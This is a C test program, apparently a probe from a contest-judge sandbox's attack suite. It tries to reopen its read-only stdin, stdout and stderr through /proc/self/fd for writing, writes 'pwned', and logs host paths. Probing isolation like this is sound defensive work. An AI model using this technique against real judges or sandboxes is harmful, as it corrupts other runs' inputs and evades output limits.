/* The input file was given read-only, as fd 0.  Reopening /proc/self/fd/0
 * for writing goes around that fd's mode: the kernel does a fresh open of
 * the host inode with the box uid's permissions, so a world-writable input
 * file (umask 000, a shared spool directory...) could be rewritten, and the
 * next run (or the judge) would read the program's "input".  Same try on
 * fd 1 and 2 (bypassing the output cap if they were files). */
#include "attack.h"
#include <fcntl.h>
int main(void)
{
	for (int fd = 0; fd < 3; fd++) {
		char link[64], target[256] = "";
		snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
		ssize_t n = readlink(link, target, sizeof target - 1);
		target[n > 0 ? n : 0] = 0;
		int w = open(link, O_WRONLY | O_APPEND);
		const char *res = w >= 0 && write(w, "pwned\n", 6) == 6 ? "OK" : ename(errno);
		/* the target is printed on stderr: it names a host path */
		dprintf(2, "fd %d -> %s\n", fd, target);
		say("reopen fd %d for writing: %s", fd, res);
		if (w >= 0)
			close(w);
	}
	return 0;
}
